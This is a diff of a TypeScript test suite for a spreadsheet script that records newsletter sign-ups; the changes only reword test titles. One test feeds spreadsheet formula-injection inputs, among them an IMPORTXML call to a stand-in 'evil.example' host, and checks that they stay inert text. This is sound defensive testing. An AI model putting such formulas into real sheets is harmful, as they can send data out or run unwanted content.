@@ -10,7 +10,7 @@ const signUp = {
   source: 'Footer',
 };
 
-/** @returns what the script answers to the site's server, which knows the secret */
+/** @returns the script's response to the site's server, which knows the secret */
 function send(sheet: ScriptedSheet, message: object, secret: string | undefined = SECRET) {
   const contents = JSON.stringify(message);
   return JSON.parse(sheet.call({ postData: { contents, type: 'application/json' }, parameter: { secret } }));
@@ -20,7 +20,7 @@ function shown(row: Cell[] | undefined): (string | undefined)[] | undefined {
   return row?.map((cell) => ('shown' in cell ? cell.shown : undefined));
 }
 
-test('a sign-up is one row under headings, also when it is sent again', () => {
+test('adds a sign-up as one row under the headings, even if it is sent again', () => {
   const sheet = openScriptedSheet();
   for (let times = 0; times < 2; times += 1) expect(send(sheet, signUp)).toEqual({ ok: true });
   expect(sheet.rows.map(shown)).toEqual([
@@ -30,7 +30,7 @@ test('a sign-up is one row under headings, also when it is sent again', () => {
 });
 
 test.each(['=IMPORTXML("https://evil.example")', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', '\n=1', "'=1", ' =1', '＝1'])(
-  'a cell that begins with %j is shown as it is and never runs',
+  'shows a cell that begins with %j as it was sent, and never runs it',
   (source) => {
     const sheet = openScriptedSheet();
     send(sheet, { ...signUp, email: `=${signUp.email}`, source });
@@ -38,7 +38,7 @@ test.each(['=IMPORTXML("https://evil.example")', '+1', '-1', '@SUM(A1)', '\t=1',
   },
 );
 
-test('an erasure removes the rows it names, and only those', () => {
+test('removes only the rows that an erasure names', () => {
   const sheet = openScriptedSheet();
   for (const id of ['a1', 'b2', 'c3', 'd4']) send(sheet, { ...signUp, id });
   expect(send(sheet, { id: 'e5', time: signUp.time, erase: ['b2', 'c3', 'gone'] })).toEqual({
@@ -47,7 +47,7 @@ test('an erasure removes the rows it names, and only those', () => {
   expect(sheet.rows.slice(1).map((row) => shown(row)?.[0])).toEqual(['a1', 'd4']);
 });
 
-test('an unsubscription gets a column of its own, also beside columns that the owner added', () => {
+test('notes an unsubscription in its own column, even next to columns that the owner added', () => {
   const sheet = openScriptedSheet();
   for (const id of ['a1', 'b2']) send(sheet, { ...signUp, id });
   sheet.rows[0]?.push({ shown: 'My remarks' });
@@ -60,7 +60,7 @@ test('an unsubscription gets a column of its own, also beside columns that the o
   expect(shown(sheet.rows[2])?.[7]).toBe('2026-04-01T10:00:00.000Z');
 });
 
-test('a row that arrives after its person unsubscribed says so, also when it is sent again', () => {
+test('marks a row that arrives after the person unsubscribed, even if it is sent again', () => {
   const sheet = openScriptedSheet();
   send(sheet, signUp);
   for (const id of ['a1', 'b2']) send(sheet, { ...signUp, id, unsubscribed: '2026-04-01' });
@@ -70,7 +70,7 @@ test('a row that arrives after its person unsubscribed says so, also when it is 
   ]);
 });
 
-test('a new field gets a column at the right, and rows follow the headings', () => {
+test('adds a column for a new field on the right, and fills rows by their headings', () => {
   const sheet = openScriptedSheet();
   send(sheet, signUp);
   send(sheet, { ...signUp, id: 'b2', company: 'Acme' });
@@ -81,14 +81,14 @@ test('a new field gets a column at the right, and rows follow the headings', () 
   ]);
 });
 
-test('while another run works on the sheet it says that it is busy, and writes nothing', () => {
+test('reports that it is busy while another run changes the sheet, and writes nothing', () => {
   const sheet = openScriptedSheet();
   sheet.isLocked = true;
   expect(send(sheet, signUp)).toEqual({ ok: false, error: 'busy' });
   expect(sheet.rows).toEqual([]);
 });
 
-test('the sheet is changed only under the lock', () => {
+test('changes the sheet only while it holds the lock', () => {
   const sheet = openScriptedSheet();
   send(sheet, signUp);
   send(sheet, { id: 'e5', time: signUp.time, erase: ['a1'] });
@@ -96,7 +96,7 @@ test('the sheet is changed only under the lock', () => {
 });
 
 test.each(['', 'not JSON', '{}', '{"email":"nobody"}', '{"email":["anna@example.org"]}', 'null'])(
-  'a body like %j is never answered with ok',
+  'never answers ok to the body %j',
   (body) => {
     const sheet = openScriptedSheet();
     expect(JSON.parse(sheet.post(body))).toMatchObject({ ok: false });
@@ -104,13 +104,13 @@ test.each(['', 'not JSON', '{}', '{"email":"nobody"}', '{"email":["anna@example.
   },
 );
 
-test('a tab that exists and is empty gets headings and rows', () => {
+test('adds headings and rows to an existing empty tab', () => {
   const sheet = openScriptedSheet({ hasEmptyTab: true });
   expect(send(sheet, signUp)).toEqual({ ok: true });
   expect(sheet.rows.map((row) => shown(row)?.[0])).toEqual(['Id', 'a1']);
 });
 
-test('columns are found by their headings, in any order and letter case, below the owner’s own lines', () => {
+test('finds columns by their headings, in any order and letter case, below the owner’s own lines', () => {
   const sheet = openScriptedSheet({ hasEmptyTab: true });
   const line = (...texts: string[]): Cell[] => texts.map((text) => ({ shown: text }));
   sheet.rows.push(line('My newsletter'), line('Notes', ' EMAIL ', 'id', 'Role'));
@@ -122,7 +122,7 @@ test('columns are found by their headings, in any order and letter case, below t
 });
 
 test.each([{ erase: ['a1', 'Footer'] }, { unsubscribe: ['a1'] }, { ...signUp, unsubscribed: 'now' }])(
-  'whoever does not know the secret changes no row: %j',
+  'changes no row for a request without the secret: %j',
   (message) => {
     for (const [ours, theirs] of [
       [SECRET, ''],
@@ -138,14 +138,14 @@ test.each([{ erase: ['a1', 'Footer'] }, { unsubscribe: ['a1'] }, { ...signUp, un
   },
 );
 
-test('rows are erased by the column of ids alone, never the headings', () => {
+test('erases rows by the Id column only, and never the headings', () => {
   const sheet = openScriptedSheet();
   send(sheet, signUp);
   expect(send(sheet, { id: 'e5', time: signUp.time, erase: ['Footer', '', 'Other', 'Id'] })).toEqual({ ok: true });
   expect(sheet.rows).toHaveLength(2);
 });
 
-test('rows go below the last sign-up although tick boxes go on below it', () => {
+test('adds rows right below the last sign-up, even if tick boxes continue below it', () => {
   const sheet = openScriptedSheet();
   send(sheet, signUp);
   sheet.rows[0]!.push({ shown: 'Called' });
@@ -156,13 +156,16 @@ test('rows go below the last sign-up although tick boxes go on below it', () => 
   expect(sheet.rows).toHaveLength(30);
 });
 
-test.each(['05-12', '0044', '1e5', '1/2', 'TRUE', '10%', '£5', '12:30'])('%s stays the text that was sent', (role) => {
-  const sheet = openScriptedSheet();
-  send(sheet, { ...signUp, role });
-  expect(shown(sheet.rows[1])?.[4]).toBe(role);
-});
+test.each(['05-12', '0044', '1e5', '1/2', 'TRUE', '10%', '£5', '12:30'])(
+  'keeps %s as the text that was sent',
+  (role) => {
+    const sheet = openScriptedSheet();
+    send(sheet, { ...signUp, role });
+    expect(shown(sheet.rows[1])?.[4]).toBe(role);
+  },
+);
 
-test('a sheet without an empty row or column can get new columns and lose its last row', () => {
+test('adds columns to a sheet without empty rows or columns, and removes its last row', () => {
   const sheet = openScriptedSheet();
   send(sheet, signUp);
   sheet.size = { rows: 2, columns: 6 };
@@ -171,7 +174,7 @@ test('a sheet without an empty row or column can get new columns and lose its la
   expect(sheet.rows).toHaveLength(1);
 });
 
-test('a sheet with the most columns still takes sign-ups, without fields that have no column', () => {
+test('still takes sign-ups when the sheet has the maximum number of columns, without the fields that have no column', () => {
   const sheet = openScriptedSheet();
   send(sheet, signUp);
   sheet.size.columns = 100;
@@ -180,7 +183,7 @@ test('a sheet with the most columns still takes sign-ups, without fields that ha
   expect([sheet.rows[0]?.length, shown(sheet.rows[2])?.[2]]).toEqual([100, 'anna@example.org']);
 });
 
-test('a form that a browser posts without script becomes a row, and the answer says thanks', () => {
+test('adds a row for a form posted without script, and says thanks', () => {
   const sheet = openScriptedSheet();
   const form = { source: 'Footer', email: '\u200Banna@example.org\u00A0', role: 'Other', website: '', consent: '9f' };
   expect(sheet.postForm(form)).toContain('Thanks, you are on the list.');
@@ -192,23 +195,23 @@ test.each([
   ['without an address', { email: 'anna', consent: '9f' }, 'enter a valid email address'],
   ['without consent', { email: 'anna@example.org' }, 'tick the box'],
   ['of a robot', { email: 'anna@example.org', consent: '9f', website: 'x' }, 'Thanks'],
-])('a form %s is answered with a page, and is no row', (_, fields, words) => {
+])('answers a form %s with a page, and adds no row', (_, fields, words) => {
   const sheet = openScriptedSheet();
   expect(sheet.postForm({ source: 'Footer', ...fields })).toContain(words);
   expect(sheet.rows.length).toBeLessThan(2);
 });
 
-test('the answer to a form says no thanks if the sheet is busy', () => {
+test('asks to try again, instead of saying thanks, if the sheet is busy', () => {
   const sheet = openScriptedSheet();
   sheet.isLocked = true;
   expect(sheet.postForm({ email: 'anna@example.org', consent: '9f' })).toContain('Please go back and try again.');
 });
 
-test.each([undefined, {}, { postData: null, parameter: {} }])('the event %j is refused', (event) => {
+test.each([undefined, {}, { postData: null, parameter: {} }])('rejects the event %j', (event) => {
   expect(JSON.parse(openScriptedSheet().call(event))).toMatchObject({ ok: false });
 });
 
-test("the specification's own payload, posted by a browser, gets an id and a time", () => {
+test("adds an id and a time to the specification's payload when a browser posts it", () => {
   const sheet = openScriptedSheet();
   send(sheet, { email: 'anna@example.org', name: '', role: '', source: 'Founder' });
   const [id, time] = shown(sheet.rows[1]) ?? [];
